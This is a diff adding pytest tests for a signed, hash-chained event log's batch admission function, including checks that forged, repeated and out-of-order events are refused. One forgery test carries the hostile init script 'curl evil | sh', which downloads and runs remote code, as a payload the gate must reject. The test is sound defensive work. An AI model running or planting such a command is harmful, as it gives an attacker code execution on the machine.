@@ -11,7 +11,7 @@ import pytest
 
 from shared import state as st
 from shared import subjects
-from shared.admission import REASONS, Gate, Rejected
+from shared.admission import REASONS, Gate, Rejected, admit_many
 from shared.codec import encode, encode_compact
 from shared.events import (
     GENESIS_HASH, ConfigEvent, GroupCreated, GroupInitScriptSet, GroupTagsSet, Recorded,
@@ -199,3 +199,70 @@ def test_a_run_of_repeats_is_logged_at_powers_of_two() -> None:
     sampled = Sampled()
     logged = [n for n in range(1, 1025) if sampled.worth_logging()]
     assert logged == [1, 2, 4, 8, 16, 32, 64, 128, 256, 512, 1024]
+
+
+# --- a replay's runs: one signature for a chained run (admit_many) -------------------------------
+
+
+def _results_fold(results: list[object]) -> st.ConfigState:
+    return st.fold([r for r in results if r is not None and not isinstance(r, Rejected)])
+
+
+def test_a_run_folds_as_one_by_one_with_one_signature_checked() -> None:
+    log = Log()
+    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(20)]
+    unsigned = [(s, {}, b) for s, _, b in msgs[:-1]] + [msgs[-1]]  # only the last is signed
+    gate = Gate(VERIFIER)
+    results = admit_many(gate, unsigned)
+    assert not any(isinstance(r, Rejected) for r in results) and gate.seq == 20
+    one = Gate(VERIFIER)
+    assert _results_fold(results) == st.fold([one.admit(*m) for m in msgs])
+    assert gate.hash == one.hash
+
+
+def test_a_forged_event_inside_a_run_is_refused_and_the_genuine_prefix_still_folds() -> None:
+    """Changing any event of a run (and re-chaining every hash after it) changes the last
+    event's hash, so its signature fails: each event is then checked alone, and the run folds
+    up to the forgery, exactly as one by one."""
+    log = Log()
+    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(6)]
+    evil = GroupInitScriptSet(group="g0", init_script="curl evil | sh")
+    forged, prev = [], msgs[2]
+    rec3 = decode_raw_record(prev[2])
+    chain = Log()
+    chain.seq, chain.hash = rec3.seq, rec3.hash  # re-chained by the forger, signed by nobody
+    for event in (evil, GroupCreated(group="x"), GroupCreated(group="y")):
+        s, _, b = chain.append(event)
+        forged.append((s, {}, b))
+    last_sig = msgs[5][1]  # a genuine signature, over another body
+    forged[-1] = (forged[-1][0], last_sig, forged[-1][2])
+    gate = Gate(VERIFIER)
+    results = admit_many(gate, msgs[:3] + forged)
+    assert [isinstance(r, Rejected) for r in results] == [False] * 3 + [True] * 3
+    assert gate.seq == 3 and "g0" in _results_fold(results).groups
+    assert _results_fold(results).groups["g0"].init_script is None
+    # the genuine rest still comes through afterwards
+    assert all(not isinstance(r, Rejected) for r in admit_many(gate, msgs[3:]))
+    assert gate.seq == 6
+
+
+def test_a_run_with_an_unchained_event_skips_it_as_one_by_one_would() -> None:
+    log = Log()
+    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(4)]
+    gate = Gate(VERIFIER)
+    results = admit_many(gate, [msgs[0], msgs[0], msgs[2], msgs[1], msgs[2], msgs[3]])
+    reasons = [r.reason if isinstance(r, Rejected) else None for r in results]
+    assert reasons == [None, "repeat", "gap", None, None, None] and gate.seq == 4
+
+
+def test_followers_of_one_subject_take_each_event_on_its_own() -> None:
+    log = Log()
+    msgs = [log.append(GroupCreated(group="g")), log.append(GroupTagsSet(group="g", tags=("a",)))]
+    gate = Gate(VERIFIER, subject=subjects.group_subject("g"))
+    unsigned = [(s, {}, b) for s, _, b in msgs]
+    assert all(isinstance(r, Rejected) and r.reason == "unsigned"
+               for r in admit_many(gate, unsigned))
+
+
+def decode_raw_record(body: bytes) -> Recorded:
+    return msgspec.json.decode(body, type=Recorded)
